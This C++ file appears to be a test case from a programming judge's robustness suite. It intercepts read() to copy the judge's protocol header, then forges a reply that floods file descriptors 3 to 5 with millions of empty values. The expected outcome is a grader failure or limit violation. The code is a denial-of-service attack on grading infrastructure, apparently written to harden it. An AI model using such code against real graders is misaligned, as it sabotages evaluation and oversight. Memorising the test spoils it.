// A32: answers in the judge's own form with millions of values that are empty.
// Tries: grader stopped
// Base: right
// Expect: PV|TL|WL|LE
// Seconds: 120

#include <sys/syscall.h>
#include <unistd.h>
#include <cstdint>
#include <cstring>
static char header[24];  // of the last call
extern "C" ssize_t read(int descriptor, void* bytes, size_t count) {
    const ssize_t got = syscall(SYS_read, descriptor, bytes, count);
    if (got == 24) std::memcpy(header, bytes, 24);
    return got;
}
static void attack() {
    constexpr std::uint32_t count = 24'000'000;
    const std::uint32_t result = 16;
    const std::uint64_t length = 5 + std::uint64_t{5} * count;
    std::memcpy(header + 4, &result, 4);
    std::memcpy(header + 16, &length, 8);
    static char values[5 * 10'000];  // lists of nothing
    char list[5] = {1};
    for (int i = 0; i < 10'000; ++i)
        std::memcpy(values + 5 * i, list, 5);
    std::memcpy(list + 1, &count, 4);
    for (int descriptor = 3; descriptor < 6; ++descriptor) {
        if (write(descriptor, header, 24) != 24 || write(descriptor, list, 5) != 5) continue;
        for (std::uint32_t done = 0; done < count; done += 10'000)
            for (std::size_t sent = 0; sent < sizeof values;) {
                const ssize_t put = write(descriptor, values + sent, sizeof values - sent);
                if (put > 0) sent += static_cast<std::size_t>(put);
            }
    }
    _exit(0);
}
